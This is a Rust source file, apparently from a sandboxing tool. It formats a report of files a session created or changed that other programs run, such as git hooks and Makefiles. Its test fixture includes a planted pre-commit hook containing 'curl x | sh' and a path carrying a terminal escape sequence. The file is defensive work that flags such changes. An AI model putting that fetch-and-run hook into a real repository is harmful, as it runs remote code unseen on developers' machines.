//! What the last session left for other programs to run, with the changes.

use std::fmt::Write as _;

use crate::engine::sandbox::manifest::{
    compare::{Change, What},
    diff,
    keep::Review,
};

/// The review in words; writing to a string cannot fail.
pub(super) fn text(review: Option<&Review>, diffs: bool) -> String {
    let Some(review) = review else {
        return "left      nothing is known: no session has ended in this project yet\n".to_owned();
    };
    let mut text = String::new();
    let since = if review.cut_off {
        "since it began; it was cut off, so this may be others' work, too"
    } else {
        "in it"
    };
    let _ = match review.changes.len() {
        0 => writeln!(
            text,
            "left      session {}: no file that other programs run or heed changed",
            review.session
        ),
        1 => writeln!(
            text,
            "left      session {}: 1 file that other programs run or heed changed {since}",
            review.session
        ),
        n => writeln!(
            text,
            "left      session {}: {n} files that other programs run or heed changed {since}",
            review.session
        ),
    };
    if let Some(alarm) = review.alarm() {
        let _ = writeln!(text, "\nWARNING   {alarm}");
    }
    for change in &review.changes {
        one(&mut text, change, diffs);
    }
    if review.partly {
        text.push_str("\nThe project is too large to be looked at whole: there may be more.\n");
    }
    if let Some(linked) = &review.linked {
        let _ = writeln!(text, "\nnote      {linked}");
    }
    if !diffs && !review.changes.is_empty() {
        text.push_str("\nlcc report --last shows each change.\n");
    }
    text
}

fn one(text: &mut String, change: &Change, diffs: bool) {
    let mark = if change.held { "!" } else { " " };
    let what = match change.what {
        What::Created => "new",
        What::Changed => "changed",
        What::Mode => "mode",
        What::Replaced => "replaced",
        What::Removed => "removed",
        What::Folder => "new folder",
        What::Repository => "new repository",
    };
    let path = diff::plain(&change.path);
    let gap = if diffs { "\n" } else { "" };
    let _ = writeln!(text, "{gap}{mark} {what:<14}  {path}  (for {})", change.reader);
    if diffs {
        match &change.diff {
            Some(diff) => text.push_str(diff),
            None if change.what == What::Repository => {}
            None => text.push_str("  not text, or too large to show\n"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn change(path: &str, what: What, held: bool, diff: Option<&str>) -> Change {
        Change {
            path: path.into(),
            what,
            reader: "git".into(),
            held,
            diff: diff.map(str::to_owned),
        }
    }

    #[test]
    fn it_reads_as_a_list_with_changes() {
        let review = Review {
            session: "a1b2".into(),
            cut_off: false,
            partly: true,
            changes: vec![
                change(".git/hooks/pre-commit", What::Created, true, Some("+curl x | sh\n")),
                change("Makefile", What::Changed, false, Some("--- a/Makefile\n")),
                change("sub/\u{1b}[2J", What::Repository, false, None),
                change("tool.bin", What::Changed, false, None),
            ],
            linked: Some("2 files have several names.".into()),
        };
        insta::assert_snapshot!(text(Some(&review), true));
        insta::assert_snapshot!(text(Some(&review), false));
        let nothing = Review { changes: Vec::new(), partly: false, linked: None, ..review };
        insta::assert_snapshot!(text(Some(&nothing), true));
        insta::assert_snapshot!(text(None, false));
    }
}
